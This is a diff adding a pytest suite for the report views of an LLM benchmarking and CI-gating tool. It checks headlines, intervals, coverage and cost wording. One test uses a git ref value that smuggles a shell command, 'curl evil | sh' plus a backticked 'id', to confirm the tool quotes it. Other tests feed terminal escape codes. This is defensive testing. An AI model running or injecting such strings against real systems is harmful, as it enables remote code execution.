@@ -1,0 +1,535 @@
+from __future__ import annotations
+
+import re
+from dataclasses import asdict, replace
+from typing import Any
+
+import pytest
+
+from lens_gate.artifacts.run import Comparison, Uncovered
+from lens_gate.artifacts.verdict import CheckKind, Verdict
+from lens_gate.reports.page import ReportView
+from lens_gate.reports.view import run_view, view
+from lens_gate.vocabulary.metrics import Direction, Hypothesis
+from lens_gate.vocabulary.outcomes import Ending, ExitCode, Outcome, Severity
+from lens_gate.vocabulary.requests import Arm
+from tests.builders import (
+    SERIES,
+    a_benchmark,
+    a_check,
+    a_coverage,
+    a_duet_run,
+    a_finding,
+    a_model_result,
+    a_need,
+    a_policy,
+    a_provider_result,
+    a_run,
+    a_spend,
+    a_summary,
+    a_validity,
+    a_validity_check,
+    a_verdict,
+    an_analysis,
+    an_arm,
+    an_effect,
+    an_error_count,
+)
+from tests.scenarios import CACHE, CHEAPER, LENGTH, SCENARIOS, SLOWER, STEADY, UNCLEAR
+
+FORBIDDEN = re.compile(r"\b([Ss]ignificant|p <|null|[Dd]elta|[Oo]utperforms?|None|nan|inf)\b")
+LATER_COMMANDS = ("plan", "explain", "baseline", "doctor", "trend", "--until-decided")
+
+
+def plain(text: str) -> str:
+    return text.replace("\u00a0", " ")
+
+
+def view_of(*findings: Any, **changes: Any) -> ReportView:
+    return view(a_verdict(an_analysis(*findings, **changes)))
+
+
+def all_texts(value: Any) -> list[str]:
+    match value:
+        case str():
+            return [value]
+        case dict():
+            return [text for one in value.values() for text in all_texts(one)]
+        case list() | tuple():
+            return [text for one in value for text in all_texts(one)]
+        case _:
+            return []
+
+
+@pytest.mark.parametrize("scenario", SCENARIOS)
+def test_no_text_uses_words_that_the_house_does_not_use(scenario: str) -> None:
+    texts = all_texts(asdict(view(SCENARIOS[scenario]())))
+    assert len(texts) > 10
+    assert [text for text in texts if FORBIDDEN.search(text)] == []
+
+
+@pytest.mark.parametrize("scenario", SCENARIOS)
+def test_no_command_is_recommended_that_does_not_exist_yet(scenario: str) -> None:
+    step = view(SCENARIOS[scenario]()).next_step or ""
+    assert not any(f" {later}" in step for later in LATER_COMMANDS)
+
+
+@pytest.mark.parametrize("scenario", SCENARIOS)
+def test_every_check_is_one_row_and_the_counts_add_up(scenario: str) -> None:
+    verdict = SCENARIOS[scenario]()
+    shown = view(verdict)
+    counts = shown.counts
+    assert len(shown.rows) == len(verdict.checks) == counts.total
+    parts = (counts.passed, counts.regressions, counts.warnings, counts.inconclusive)
+    assert sum(parts) + counts.not_measured + counts.not_compared == counts.total
+    assert (*shown.open_rows, *shown.passed_rows) == shown.rows
+
+
+def test_a_regression_names_subject_size_interval_and_limit() -> None:
+    shown = view_of(STEADY, SLOWER)
+    assert plain(shown.headline) == "Regression: gpt-small's first token comes 15 % later"
+    assert plain(shown.second) == (
+        "That is +74.0 ms on 500 ms. The data allow +12.1 % to +17.2 %; you allow at most +5 %. "
+        "Of 2 checks, 1 failed and 1 passed."
+    )
+
+
+def test_the_worst_regression_is_the_one_farthest_beyond_its_own_limit() -> None:
+    bigger = STEADY.model_copy(update={"effect": an_effect(22.0), "outcome": Outcome.REGRESSION})
+    shown = view_of(bigger, SLOWER)
+    assert [row.label for row in shown.rows] == ["first token", "time per token"]
+    assert shown.headline.endswith("later, and 1 more")
+
+
+def test_a_regression_without_an_interval_gives_its_reason() -> None:
+    bare = SLOWER.model_copy(update={"effect": an_effect(None, lower=None, upper=None, upper_pass=None)})
+    shown = view_of(bare)
+    assert plain(shown.headline) == (
+        "Regression: gpt-small, first token: changed by +14.8 %, and that is not chance; 5 % is what matters"
+    )
+    assert plain(shown.second) == "Changed by +14.8 %, and that is not chance; 5 % is what matters."
+
+
+@pytest.mark.parametrize(
+    ("lower", "upper", "text"),
+    [(12.1, None, "The data allow +12.1 % and more;"), (None, 17.2, "The data allow +17.2 % and less;")],
+)
+def test_an_interval_without_an_end_says_so(lower: float | None, upper: float | None, text: str) -> None:
+    shown = view_of(SLOWER.model_copy(update={"effect": an_effect(14.8, lower=lower, upper=upper)}))
+    assert text in plain(shown.second)
+
+
+def test_a_regression_without_a_limit_or_base_value_leaves_them_out() -> None:
+    shown = view_of(SLOWER.model_copy(update={"threshold": None, "base_value": None}))
+    assert plain(shown.second) == "The data allow +12.1 % to +17.2 %."
+
+
+def test_shorter_answers_are_a_change_in_the_other_direction() -> None:
+    shorter = LENGTH.model_copy(
+        update={"effect": an_effect(-30.0, lower=-35.0, upper=-25.0), "outcome": Outcome.REGRESSION}
+    )
+    shown = view_of(shorter)
+    assert plain(shown.headline) == "Regression: gpt-small's answers are 30 % shorter"
+    assert "you allow ±10 %." in plain(shown.second)
+
+
+def test_a_lower_share_from_the_cache_is_worse() -> None:
+    lost = CACHE.model_copy(
+        update={"effect": an_effect(-40.0, unit="points", lower=-45.0, upper=-35.0), "outcome": Outcome.REGRESSION}
+    )
+    shown = view_of(lost)
+    assert plain(shown.headline) == "Regression: gpt-small reads 40 points less of its input from the cache"
+    assert "you allow at most −10 points." in plain(shown.second)
+    assert shown.rows[0].size is None
+
+
+def test_a_breached_limit_is_told_with_value_and_limit() -> None:
+    shown = view(SCENARIOS["error_budget"]())
+    assert plain(shown.headline) == "Beyond the limit: gpt-small, errors: 7.0 %, where the limit is 5.0 %"
+    assert [row.mark.word for row in shown.rows] == ["beyond the limit", "warning", "pass"]
+
+
+def test_a_breach_without_numbers_is_told_by_its_message() -> None:
+    gate = a_check(
+        name="my gate",
+        kind=CheckKind.QUALITY_GATE,
+        series=None,
+        metric=None,
+        outcome=Outcome.REGRESSION,
+        value=None,
+        limit=None,
+        unit="",
+        message="a < 1 and b > 2 does not hold",
+    )
+    shown = view(a_verdict(checks=(gate,)))
+    assert shown.headline == "Beyond the limit: A < 1 and b > 2 does not hold"
+    assert shown.rows[0].title == "my gate"
+
+
+def test_a_check_for_the_whole_run_has_no_model_in_its_headline() -> None:
+    budget = a_check(
+        kind=CheckKind.BUDGET,
+        series=None,
+        metric="total_cost_usd",
+        outcome=Outcome.REGRESSION,
+        value=6.0,
+        limit=5.0,
+        unit="USD",
+    )
+    shown = view(a_verdict(checks=(budget,)))
+    assert shown.headline == "Beyond the limit: cost of the run: $6.00, where the limit is $5.00"
+
+
+def test_a_pass_names_the_check_that_is_closest_to_its_limit() -> None:
+    shown = view_of(STEADY, CHEAPER, CACHE)
+    assert shown.headline == "Pass: nothing got worse by more than you allow"
+    assert plain(shown.second) == (
+        "All 3 checks passed. The closest to its limit is gpt-small · share from the cache: at worst −2.6 points, "
+        "where −10 points is allowed."
+    )
+    assert shown.next_step is None
+    assert shown.need is None
+
+
+def test_a_pass_of_one_check_and_a_pass_of_none() -> None:
+    assert view_of(STEADY).second.startswith("The only check passed.")
+    assert view(a_verdict(checks=(), outcome=Outcome.PASS)).second == "There was nothing to check."
+
+
+def test_a_pass_without_any_limit_names_no_closest() -> None:
+    assert view_of(STEADY.model_copy(update={"threshold": None})).second == "The only check passed."
+
+
+def test_a_pass_with_warnings_says_so() -> None:
+    warning = a_check(severity=Severity.WARNING, outcome=Outcome.REGRESSION, kind=CheckKind.BUDGET)
+    shown = view(a_verdict(an_analysis(STEADY), checks=(a_check(STEADY), warning), outcome=Outcome.PASS))
+    assert shown.headline == "Pass, with 1 warning: nothing got worse by more than you allow"
+    assert shown.second.startswith("Of 2 checks, 1 passed and 1 is a warning.")
+
+
+def test_a_pass_says_what_it_does_not_cover() -> None:
+    one = view_of(STEADY, coverage=(a_coverage(not_covered=("the slowest 5 %",)),))
+    assert one.headline == "Pass for 1 check; 1 question is not covered"
+    assert "Not covered: gpt-small: the slowest 5 %." in one.second
+
+
+def test_an_inconclusive_verdict_says_what_an_answer_would_take() -> None:
+    shown = view_of(STEADY, UNCLEAR, need=a_need())
+    assert shown.headline == "Inconclusive: 1 of 2 checks needs more data"
+    assert plain(shown.second) == (
+        "gpt-small · late first tokens: the change lies between −2.1 points and +6.4 points, on both sides of your "
+        "+3 points. About 520 pairs would decide ($2.10, 7 minutes)."
+    )
+    assert shown.next_step == "lens-gate ci --against-ref main --requests 1040 --max-cost 2.52"
+
+
+def test_an_answer_counts_the_requests_of_all_models() -> None:
+    other = UNCLEAR.model_copy(update={"series": "openai/gpt-large"})
+    shown = view_of(UNCLEAR, other, need=a_need(usd=None, minutes=None))
+    assert shown.headline == "Inconclusive: 2 of 2 checks need more data"
+    assert shown.next_step == "lens-gate ci --against-ref main --requests 2080"
+    assert shown.need == "About 520 pairs would decide."
+
+
+@pytest.mark.parametrize(
+    ("effect", "threshold"),
+    [
+        (an_effect(1.9, lower=None), 3.0),
+        (an_effect(1.9), None),
+        (an_effect(None, lower=None, upper=None), 3.0),
+    ],
+)
+def test_an_open_question_without_both_ends_gives_its_reason(effect: Any, threshold: float | None) -> None:
+    shown = view_of(UNCLEAR.model_copy(update={"effect": effect, "threshold": threshold}))
+    assert shown.second.startswith("gpt-small · late first tokens: Not clear:")
+
+
+def test_an_open_question_on_one_side_of_the_limit_names_the_limit_only() -> None:
+    shown = view_of(UNCLEAR.model_copy(update={"effect": an_effect(1.0, lower=0.5, upper=2.0)}))
+    assert plain(shown.second).endswith("lies between +0.5 % and +2.0 %; you allow +3 %.")
+
+
+def test_without_an_open_row_an_inconclusive_verdict_still_reads() -> None:
+    shown = view(a_verdict(an_analysis(findings=(), comparison=None), checks=(), outcome=Outcome.INCONCLUSIVE))
+    assert shown.second == ""
+    assert shown.next_step == "lens-gate ci --against-ref main"
+    regression = view(a_verdict(checks=(), outcome=Outcome.REGRESSION))
+    assert regression.headline == "Regression"
+
+
+@pytest.mark.parametrize(
+    ("ending", "cap", "text"),
+    [
+        (Ending.COST_CAP, 5.0, "Stopped at your $5.00 limit before an answer"),
+        (Ending.TIME_CAP, 5.0, "Stopped at your time limit before an answer"),
+        (Ending.COST_CAP, None, "Stopped at your time limit before an answer"),
+    ],
+)
+def test_a_cap_is_named(ending: Ending, cap: float | None, text: str) -> None:
+    analysis = an_analysis(UNCLEAR, ending=ending, spend=a_spend(cap_usd=cap))
+    assert view(a_verdict(analysis, exit_code=ExitCode.CAP_REACHED)).headline == text
+
+
+def not_measured(**changes: Any) -> Verdict:
+    return a_verdict(an_analysis(findings=(), **changes), checks=(), outcome=Outcome.NOT_MEASURED)
+
+
+def test_what_was_in_the_way_of_measuring_is_the_headline() -> None:
+    late = a_validity(a_validity_check(ok=False, message="the generator was too slow."))
+    refused = not_measured(ending=Ending.AUTHENTICATION, ending_message="401: wrong key", validity=late)
+    assert view(refused).headline == "Not measured: 401: wrong key"
+    assert view(not_measured(validity=late)).headline == "Not measured: the generator was too slow"
+    assert view(not_measured()).headline == "Not measured: no request succeeded"
+    assert view(not_measured()).next_step == "lens-gate validate"
+    assert view(not_measured(validity=late)).next_step is None
+    assert view(not_measured(ending=Ending.UNREACHABLE)).headline == "Not measured: no request succeeded"
+
+
+def test_what_was_measured_beside_it_is_counted() -> None:
+    silent = a_check(outcome=Outcome.NOT_MEASURED, message="other/model is silent")
+    shown = view(a_verdict(checks=(silent, a_check())))
+    assert shown.headline == "Not measured: other/model is silent"
+    assert shown.second == "Nothing is said about the endpoint. Of 2 checks, 1 passed and 1 was not measured."
+
+
+def test_hostile_names_are_quoted_in_commands() -> None:
+    comparison = Comparison(kind="ref", value="x; curl evil | sh\n`id`", equal=False)
+    shown = view_of(SLOWER, comparison=comparison)
+    assert shown.next_step == "lens-gate ci --against-ref 'x; curl evil | sh `id`'"
+
+
+def test_a_comparison_says_what_was_compared_and_when() -> None:
+    assert view_of(STEADY).compared == "Compared 3f9c2ab (work tree) with 91d04e7 (main) at the same time, 300 pairs."
+    stored = view_of(STEADY, source="stored").compared
+    assert stored == "Compared 3f9c2ab (work tree) with 91d04e7 (main), measured earlier and stored."
+    assert view_of(STEADY, source="none", arms=()).compared == "Measured this version alone."
+    assert view_of(STEADY, source="none").compared == (
+        "Measured 3f9c2ab (work tree) and 91d04e7 (main) at the same time, without a comparison."
+    )
+    assert view_of(STEADY, coverage=()).compared.endswith("at the same time, no pairs.")
+
+
+@pytest.mark.parametrize(
+    ("label", "commit", "name"),
+    [("main", None, "main"), ("91d04e7aa", "91d04e7aa0", "91d04e7aa"), ("", "91d04e7aa0", "91d04e7")],
+)
+def test_an_arm_is_named_once(label: str, commit: str | None, name: str) -> None:
+    arms = (an_arm(), an_arm(Arm.BASE, label=label, commit=commit))
+    assert f"with {name} at" in view_of(STEADY, arms=arms).compared
+
+
+def test_pairs_are_counted_per_model() -> None:
+    two = (a_coverage(), a_coverage(series="openai/other"))
+    assert view_of(STEADY, coverage=two).compared.endswith("300 pairs a model.")
+    fewer = (a_coverage(), a_coverage(series="openai/other", pairs_used=280))
+    assert view_of(STEADY, coverage=fewer).compared.endswith("280 to 300 pairs a model.")
+
+
+def test_validity_is_one_sentence_with_its_reasons() -> None:
+    warned = a_validity(a_validity_check(ok=False, effect="warn", message="usage is missing."))
+    assert view_of(STEADY, validity=warned).validity == "Measurement valid, with 1 warning: usage is missing."
+    dropped = a_validity().model_copy(update={"valid": False})
+    assert view_of(STEADY, validity=dropped).validity == "Measurement not valid: no reason was recorded."
+    doubtful = warned.model_copy(update={"valid": False})
+    assert view_of(STEADY, validity=doubtful).validity == "Measurement not valid: usage is missing."
+
+
+def test_unknown_prices_are_said() -> None:
+    few = view_of(STEADY, spend=a_spend(cap_usd=None, unpriced_models=("a", "b")))
+    assert few.spend == "The run cost at least $1.20; no price is known for a and b."
+    many = view_of(STEADY, spend=a_spend(unpriced_models=tuple("abcdefg")))
+    assert many.spend.endswith("no price is known for a, b, c, d, and e and 2 more.")
+
+
+def test_measured_false_alarms_and_a_shared_machine_are_told_up_front() -> None:
+    comparison = Comparison(kind="ref", value="main", equal=False, shared_machine=True)
+    shown = view_of(STEADY, policy=a_policy(false_alarm_note="78 % false alarms"), comparison=comparison)
+    assert shown.caveats == ("78 % false alarms.", "Both versions ran on one machine and shared its load.")
+
+
+def test_what_is_shown_but_not_gated_is_in_the_details() -> None:
+    rare = UNCLEAR.model_copy(update={"gated": False})
+    shown = view_of(STEADY, rare)
+    assert [row.label for row in shown.details.shown] == ["late first tokens"]
+    assert len(shown.rows) == 1
+
+
+def test_uncovered_prompts_and_models_are_named() -> None:
+    uncovered = (
+        Uncovered(prompt_id="p1", arm=Arm.BASE),
+        Uncovered(prompt_id="*", arm=Arm.CANDIDATE, series="openai/new"),
+        Uncovered(prompt_id="*", arm=Arm.CANDIDATE),
+    )
+    assert view_of(STEADY, uncovered=uncovered).details.uncovered == (
+        "prompt p1: in the baseline only.",
+        "model openai/new: in the candidate only.",
+        "all prompts: in the candidate only.",
+    )
+
+
+def test_coverage_says_what_took_pairs_away() -> None:
+    row = a_coverage(pairs_used=290, excluded_throttled=4, excluded_failed=6, censored=2)
+    (text,) = view_of(STEADY, coverage=(row,)).details.coverage
+    assert text == (
+        "gpt-small: 290 of 300 pairs used, 4 left out because a provider throttled, "
+        "6 left out because a request failed, 2 counted at their time limit."
+    )
+
+
+def test_errors_of_both_arms_stand_side_by_side() -> None:
+    now = a_model_result(errors=(an_error_count("timeout", 3), an_error_count("reset", 6, example="peer\x1b[2J left")))
+    before = a_model_result(errors=(an_error_count("timeout", 1), an_error_count("tls", 3)))
+    shown = view_of(STEADY, providers=(a_provider_result(now),), base_providers=(a_provider_result(before),))
+    assert [(row.subject, row.error_class, row.base, plain(row.candidate)) for row in shown.details.errors] == [
+        ("gpt-small", "reset", "0", "6 (2.0 %)"),
+        ("gpt-small", "timeout", "1 (0.3\u00a0%)", "3 (1.0 %)"),
+        ("gpt-small", "tls", "3 (1.0\u00a0%)", "0"),
+    ]
+    assert shown.details.errors[0].example == "peer left"
+
+
+def test_a_model_that_replaces_another_is_compared_with_it() -> None:
+    old = a_model_result(id="old", errors=(an_error_count("empty", 3),))
+    replaced = view_of(STEADY, base_providers=(a_provider_result(old),)).details
+    assert [(row.subject, row.error_class, plain(row.base or "")) for row in replaced.errors] == [
+        ("gpt-small", "empty", "3 (1.0 %)")
+    ]
+    assert [row.base for row in replaced.cost] == ["$0.002"]
+
+
+def test_a_model_without_a_counterpart_has_none() -> None:
+    two = (a_model_result(id="new"), a_model_result(errors=(an_error_count("tls", 3),)))
+    other = a_provider_result(a_model_result(), a_model_result(id="old"), a_model_result(id="older"))
+    details = view_of(STEADY, providers=(a_provider_result(*two),), base_providers=(other,)).details
+    assert [(row.subject, row.base) for row in details.cost] == [("new", "–"), ("gpt-small", "$0.002")]
+    broken = a_provider_result(a_model_result(id="new", errors=(an_error_count("tls", 3),)), a_model_result(id="newer"))
+    alone = view_of(STEADY, providers=(broken,), base_providers=(a_provider_result(),)).details
+    assert [(row.subject, row.base) for row in alone.errors] == [("new", "0")]
+
+
+def test_the_questions_about_the_instrument_are_listed_with_value_and_limit() -> None:
+    checks = (
+        a_validity_check(message="ok"),
+        a_validity_check(name="reused_share", value=0.971, limit=None, unit="share", message="the others connect"),
+        a_validity_check(name="usage", value=None, limit=None, ok=False, effect="warn", message="usage is missing"),
+    )
+    lines = view_of(STEADY, validity=a_validity(*checks)).details.validity
+    assert [plain(line) for line in lines] == [
+        "send lateness: ok (0.300 ms), limit 5.00 ms.",
+        "reused share: ok (97.1 %). The others connect.",
+        "usage: not ok. Usage is missing.",
+    ]
+
+
+def test_finish_reasons_are_compared() -> None:
+    now = a_model_result(finish_reasons={"stop": 280, "length": 20})
+    before = a_model_result(finish_reasons={"stop": 299, "refusal": 1})
+    both = view_of(STEADY, providers=(a_provider_result(now),), base_providers=(a_provider_result(before),))
+    assert "gpt-small: length ended 20 answers (0 in the baseline)." in both.details.notes
+    assert "gpt-small: refusal ended 0 answers (1 in the baseline)." in both.details.notes
+    alone = view_of(STEADY, providers=(a_provider_result(now),), base_providers=())
+    assert "gpt-small: length ended 20 answers." in alone.details.notes
+
+
+def test_models_of_several_providers_keep_their_provider() -> None:
+    other = STEADY.model_copy(update={"series": "azure/gpt-small"})
+    assert {row.subject for row in view_of(STEADY, other).rows} == {SERIES, "azure/gpt-small"}
+    assert {row.subject for row in view_of(STEADY).rows} == {"gpt-small"}
+
+
+def test_a_series_without_a_provider_and_one_that_only_a_check_names() -> None:
+    bare = STEADY.model_copy(update={"series": "lonely"})
+    unknown = a_check(kind=CheckKind.BUDGET, series="other/thing")
+    shown = view(a_verdict(an_analysis(bare, providers=(), base_providers=()), checks=(a_check(bare), unknown)))
+    assert {row.subject for row in shown.rows} == {"lonely", "other/thing"}
+
+
+def test_several_rules_on_one_metric_keep_their_own_numbers() -> None:
+    first = a_finding(hypothesis=None, method="threshold", reason="rule one", effect=an_effect(1.0))
+    second = a_finding(hypothesis=None, method="t-test", reason="rule two", effect=an_effect(2.0))
+    checks = (a_check(second), a_check(first), a_check(first, message="no finding is left"))
+    shown = view(a_verdict(an_analysis(first, second), checks=checks))
+    assert {(row.reason, plain(row.change)) for row in shown.rows} == {
+        ("Rule two.", "+2.0 %"),
+        ("Rule one.", "+1.0 %"),
+        ("No finding is left.", "1.0 %"),
+    }
+
+
+def test_the_interval_column_is_headed_by_what_stands_in_it() -> None:
+    other = UNCLEAR.model_copy(update={"effect": an_effect(confidence=0.95)})
+    assert view_of(SLOWER, other).interval_title == "interval"
+    assert plain(view_of(SLOWER, STEADY).interval_title) == "99 % interval"
+    assert view_of(STEADY).interval_title == "bound"
+
+
+def test_a_pass_shows_the_bound_that_it_was_judged_by_and_others_their_interval() -> None:
+    shown = view_of(STEADY, SLOWER, CACHE, LENGTH, STEADY.model_copy(update={"effect": an_effect(upper_pass=None)}))
+    assert {row.interval for row in shown.rows} == {
+        "+12.1 to +17.2",
+        "at worst +0.4",
+        "at worst −2.6",
+        "at worst ±4.4",
+        "−2.5 to +3.5",
+    }
+
+
+def test_a_figure_gets_unrounded_numbers_and_the_direction_that_counts() -> None:
+    bounds = view_of(CACHE).rows[0].bounds
+    assert bounds is not None
+    assert (bounds.estimate, bounds.lower, bounds.worse) == (-1.5, -3.0, Direction.HIGHER_IS_BETTER)
+    assert bounds.harm == (1.5, -0.2, 3.0)
+    assert (bounds.passed.lower, bounds.passed.upper) == (-2.6, 0.2)
+    unknown = view_of(a_finding(metric="own", hypothesis=None)).rows[0].bounds
+    assert unknown is not None
+    assert unknown.worse is Direction.LOWER_IS_BETTER
+    bare = replace(unknown, upper_pass=None)
+    assert bare.passed == bare
+
+
+def test_a_classic_pass_without_bounds_is_placed_by_its_estimate() -> None:
+    bare = a_finding(hypothesis=None, effect=an_effect(4.0, lower=None, upper=None, upper_pass=None))
+    assert "at worst +4.0\u00a0%" in view_of(bare).second
+
+
+def test_an_effect_whose_size_is_unknown_still_has_a_row() -> None:
+    row = view_of(a_finding(effect=an_effect(None), hypothesis=Hypothesis.ERRORS)).rows[0]
+    assert (row.change, row.bounds, row.size) == ("–", None, None)
+
+
+def test_a_run_is_told_without_a_judgement() -> None:
+    shown = run_view(a_run())
+    assert shown.headline == "Measured 300 requests, all of them successful"
+    assert shown.compared == "Measured 3f9c2ab (work tree) alone."
+    assert [row.arm for row in shown.models] == [""]
+    assert shown.generated == "2026-03-02 10:05:01 UTC"
+    both = run_view(a_duet_run())
+    assert [row.arm for row in both.models] == ["candidate", "baseline"]
+    assert both.compared.endswith("at the same time; no verdict was asked for.")
+
+
+@pytest.mark.parametrize(
+    ("successful", "total", "rate"), [(2999, 3000, "99.9 %"), (1, 3000, "0.1 %"), (0, 0, "–"), (298, 300, "99.3 %")]
+)
+def test_a_success_rate_says_all_only_for_all(successful: int, total: int, rate: str) -> None:
+    shown = run_view(a_run(summary=a_summary(successful_requests=successful, total_requests=total)))
+    assert plain(dict(shown.summary)["Success Rate"]) == rate
+
+
+def test_a_time_that_cannot_be_read_stays_as_it_is() -> None:
+    provenance = a_run().provenance.model_copy(update={"created_at": "some\x1b[2J day"})
+    assert run_view(a_run(provenance=provenance)).generated == "some day"
+
+
+def test_rates_and_prices_that_are_unknown_are_dashes() -> None:
+    model = a_model_result()
+    unknown = model.model_copy(
+        update={
+            "throughput": model.throughput.model_copy(update={"tokens_per_second": None}),
+            "cost": model.cost.model_copy(update={"per_1k_tokens_usd": None, "average_per_request_usd": None}),
+        }
+    )
+    row = run_view(a_run(providers=(a_provider_result(unknown),), benchmark=a_benchmark(name=""))).models[0]
+    assert (row.tokens_per_second, row.cost_per_1k_tokens) == ("–", "–")
+    shown = view_of(STEADY, providers=(a_provider_result(unknown),), base_providers=())
+    assert [(row.base, row.candidate) for row in shown.details.cost] == [("–", "–")]
